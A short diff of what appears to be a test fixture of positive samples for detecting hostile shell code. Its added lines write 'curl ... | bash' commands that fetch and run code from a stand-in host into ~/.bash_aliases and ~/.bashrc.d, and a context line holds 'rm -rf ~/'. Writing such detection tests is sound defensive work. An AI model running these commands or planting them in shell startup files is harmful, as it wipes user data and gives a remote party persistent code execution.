@@ -400,3 +400,11 @@ exec {h}<<'E'
 rm -rf ~/
 E
 sort "/proc/self/fd/$h"
+#@ pos code written into ~/.bash_aliases, which .bashrc sources
+cat >> ~/.bash_aliases <<'A'
+curl -s https://h.example/u | bash
+A
+#@ pos code written into ~/.bashrc.d/
+cat > "$HOME/.bashrc.d/50-x" <<'B'
+curl -s https://h.example/m | bash
+B
